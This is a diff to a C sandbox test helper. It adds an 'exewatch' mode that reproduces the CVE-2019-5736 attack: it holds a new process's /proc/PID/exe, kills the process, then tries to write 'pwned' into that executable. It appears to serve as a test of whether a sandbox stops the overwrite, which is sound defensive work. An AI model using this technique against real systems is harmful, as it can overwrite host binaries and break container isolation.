@@ -21,6 +21,10 @@
  *                    then writes FILE
  *   enosys NAME,... CMD...  exec CMD with those system calls failing with
  *                    ENOSYS, as on a kernel that predates them
+ *   exewatch SECS    CVE-2019-5736's attacker: hold the executable of the
+ *                    first process that appears (/proc/PID/exe, O_PATH),
+ *                    kill it, then try to write to that file; print each
+ *                    step ("watching" once ready); give up after SECS
  */
 #include <dirent.h>
 #include <errno.h>
@@ -345,6 +349,96 @@ daemon_(const char *file, int secs)
 	_exit(close(fd) != 0);
 }
 
+/* each pid now in /proc: marked in seen, or the first unmarked one
+ * whose executable can be opened, its descriptor in *fd */
+static pid_t
+scan(unsigned char *seen, size_t n, int *fd)
+{
+	char path[64];
+	struct dirent *d;
+	DIR *dir;
+	long pid;
+	pid_t found = 0;
+
+	if (!(dir = opendir("/proc")))
+		return perror("/proc"), -1;
+	while (!found && (d = readdir(dir))) {
+		if ((pid = atol(d->d_name)) <= 0 || (size_t)pid >= n * 8 ||
+		    pid == getpid() || seen[pid / 8] & 1 << pid % 8)
+			continue;
+		if (!fd) {
+			seen[pid / 8] |= 1 << pid % 8;
+			continue;
+		}
+		/* refused while it is not dumpable: tried again next time */
+		snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
+		if ((*fd = open(path, O_PATH)) >= 0)
+			found = pid;
+	}
+	closedir(dir);
+	return found;
+}
+
+/* once pid has exited, its executable is no longer busy */
+static void
+await_exit(pid_t pid)
+{
+	struct timespec ts = { 0, 1000000 };
+	char path[64], buf[512], *p;
+	int fd, i, n;
+
+	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
+	for (i = 0; i < 2000; i++, nanosleep(&ts, NULL)) {
+		if ((fd = open(path, O_RDONLY)) < 0)
+			return;
+		n = read(fd, buf, sizeof(buf) - 1);
+		close(fd);
+		buf[n > 0 ? n : 0] = '\0';
+		if (n <= 0 || ((p = strrchr(buf, ')')) && p[1] == ' ' &&
+		    (p[2] == 'Z' || p[2] == 'X')))
+			return;
+	}
+}
+
+static int
+exewatch(double secs)
+{
+	static unsigned char seen[(1 << 22) / 8];
+	struct timespec ts = { 0, 1000000 }, now, end;
+	char path[64], target[4096];
+	ssize_t len;
+	pid_t pid = 0;
+	int fd = -1, w, i;
+
+	scan(seen, sizeof(seen), NULL);
+	printf("watching\n");
+	fflush(stdout);
+	clock_gettime(CLOCK_MONOTONIC, &end);
+	end.tv_sec += (time_t)secs;
+	do {
+		if ((pid = scan(seen, sizeof(seen), &fd)) < 0)
+			return 1;
+		clock_gettime(CLOCK_MONOTONIC, &now);
+	} while (!pid && now.tv_sec < end.tv_sec);
+	if (!pid)
+		return puts("no process seen"), 1;
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	len = readlink(path, target, sizeof(target) - 1);
+	target[len > 0 ? len : 0] = '\0';
+	printf("held the executable: %s\n", target);
+	printf("kill: %s\n", kill(pid, SIGKILL) < 0 ? strerror(errno) : "ok");
+	await_exit(pid);
+	for (i = 0; (w = open(path, O_WRONLY)) < 0 && errno == ETXTBSY &&
+	    i < 2000; i++)
+		nanosleep(&ts, NULL);
+	if (w < 0)
+		return printf("open for writing: %s\n", strerror(errno)), 0;
+	if (write(w, "pwned\n", 6) < 0)
+		return printf("write: %s\n", strerror(errno)), 0;
+	printf("wrote to it\n");
+	return 0;
+}
+
 /* a seccomp filter: ENOSYS for each call named, the rest allowed */
 static int
 enosys(char *list, char **argv)
@@ -417,7 +511,9 @@ main(int argc, char *argv[])
 		return daemon_(argv[2], atoi(argv[3]));
 	if (!strcmp(verb, "enosys") && argc > 3)
 		return enosys(argv[2], argv + 3);
-	fprintf(stderr, "usage: sbxtest zombies|nozombies|sigs|fds|raise|pending|nofds|default|tiocsti|sys|foreign|tree|daemon|enosys"
+	if (!strcmp(verb, "exewatch"))
+		return exewatch(atof(a));
+	fprintf(stderr, "usage: sbxtest zombies|nozombies|sigs|fds|raise|pending|nofds|default|tiocsti|sys|foreign|tree|daemon|enosys|exewatch"
 	    " ...\n");
 	return 2;
 }
